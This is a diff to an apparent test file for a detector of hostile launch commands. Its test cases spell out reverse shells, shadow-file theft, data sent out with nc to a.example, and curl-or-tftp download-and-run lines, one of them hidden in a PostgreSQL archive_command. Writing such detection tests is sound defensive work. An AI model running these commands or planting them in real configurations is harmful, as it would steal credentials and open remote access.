@@ -132,6 +132,9 @@ describe('a shell where a shell is expected', () => {
     [['nc', '-e', '/bin/sh', '192.0.2.1', '4444'], 'shell-injection'],
     [['nsenter', '-t', '1', '-m', 'sh'], 'shell-injection'],
     [['sh', '-c', 'echo "* * * * * x" | crontab -'], 'shell-injection'],
+    [['sh', '-c', 'mount /dev/sda1 /srv'], 'shell-injection'],
+    [['sh', '-c', 'tftp -g -r a b.example; sh a'], 'download-and-run'],
+    [['sh', '-c', 'python3 -m http.server 80 -d /'], 'shell-injection'],
     [['sh', '-c', 'cp /etc/shadow /srv/a'], 'shell-injection'],
     [['sh', '-c', 'chmod u+s /bin/dash'], 'shell-injection'],
     [['sh', '-c', 'tar c /root | nc a.example 1'], 'shell-injection'],
@@ -236,6 +239,18 @@ describe('a command where a command is expected', () => {
       expect(rules(command(line))).toContain('shell-injection');
     },
   );
+  it('in a label of a scheduler, and in a setting that PostgreSQL gives to a shell', () => {
+    const label = (name: string, value: string): LaunchRequest => ({
+      ...empty,
+      workload: { labels: { [name]: value } },
+    });
+    expect(rules(label('job.run.command', '/usr/bin/curl http://a.example/b'))).toEqual([]);
+    expect(rules(label('job.run.note', '/usr/bin/curl http://a.example/b'))).toEqual(['shell-injection']);
+    expect(rules(command('postgres', '-c', 'archive_command=test ! -f /a/%f && cp %p /a/%f'))).toEqual([]);
+    expect(rules(command('postgres', '-c', 'archive_command=curl http://a.example/x | sh'))).toEqual([
+      'download-and-run',
+    ]);
+  });
   it('in a variable that says that it is one', () => {
     expect(rules(variable('BUILD_COMMAND', 'make all && make install'))).toEqual([]);
     expect(rules(variable('WG_POST_UP', 'iptables -A FORWARD -j ACCEPT; iptables -L'))).toEqual([]);
